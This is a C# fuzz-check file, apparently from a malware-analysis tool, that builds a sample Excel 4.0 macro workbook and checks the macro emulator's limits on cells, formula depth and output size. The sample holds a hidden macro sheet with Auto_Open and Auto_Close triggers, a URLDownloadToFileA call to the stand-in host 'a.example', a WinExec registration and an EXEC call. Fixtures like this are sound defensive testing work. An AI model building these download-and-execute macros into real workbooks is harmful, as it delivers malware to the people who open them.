using Lurewatch.Files;
using Lurewatch.Files.Office.Workbooks;
using Lurewatch.Samples.Office;
using Lurewatch.Scripts.Xlm;

namespace Lurewatch.Fuzz;

/// <summary>What the targets of workbooks share: cells lie on the sheet, formulas are not too deep, macros end and stay inside the budget.</summary>
internal static class WorkbookChecks
{
    public static MacroWorkbook Sample() => new MacroWorkbook().Sheet("Sheet1", isMacro: false).Cell("A1", "text").Cell("B2", 4.5)
        .Sheet("Macro1", state: 2)
        .Down("A1", "=SET.NAME(\"n\",0)", "=WHILE(n<3)", "=SET.VALUE(B1,B1&CHAR(65+n)&Sheet1!$A$1)", "=SET.NAME(\"n\",n+1)", "=NEXT()", "=FORMULA(\"=EXEC(\"\"\"&B1&\"\"\")\",A9)", "=IF(SUM({1,2;3,4})>9,GOTO(A9),HALT())", "=RETURN()")
        .Down("C1", "=FOR.CELL(\"c\",A1:B9)", "=IF(c=\"x\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.example/\"&c,\"b\",0,0)", "=ELSE()", "=REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"go\",,1,9)", "=END.IF()", "=NEXT()", "=RUN(A1)")
        .Name("n", "=0").Name("c", "=0").Name("Auto_Open", "=Macro1!$A$1").Name("Auto_Close", "=Macro1!$C$1");

    public static AnalysisBudget Budget() => new(new AnalysisLimits(), TimeProvider.System);

    public static void Check(Workbook workbook)
    {
        foreach (var sheet in workbook.Sheets)
        {
            foreach (var (place, cell) in sheet.Cells)
            {
                if (place.Row is < 0 or >= XlmRange.MostRows || place.Column is < 0 or >= XlmRange.MostColumns) throw new InvalidOperationException("a cell outside of the sheet");
                if (cell.Formula is { } formula && formula.Depth > XlmExpression.MostDepth) throw new InvalidOperationException("a formula too deep");
            }
        }
        var budget = Budget();
        var files = new List<ExtractedFile>();
        if (WorkbookMacros.Run(workbook, "fuzz.xls", files, budget) is not { } emulation) return;
        long total = 0;
        foreach (var file in files) total += file.Bytes.Length;
        if (total > budget.Limits.TotalBytesOut) throw new InvalidOperationException("over the total limit");
        if (emulation.Written.Count > 2_000) throw new InvalidOperationException("over the limit of written formulas");
    }
}
